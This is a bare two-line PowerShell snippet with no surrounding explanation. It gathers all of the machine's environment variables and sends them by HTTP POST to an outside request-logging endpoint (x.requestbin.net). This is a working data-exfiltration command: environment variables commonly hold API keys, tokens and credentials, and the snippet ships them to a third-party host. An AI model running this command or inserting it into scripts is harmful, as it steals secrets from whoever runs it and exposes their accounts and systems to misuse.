$e = Get-ChildItem Env: | Out-String
Invoke-RestMethod -Uri https://x.requestbin.net/r -Method Post -Body $e
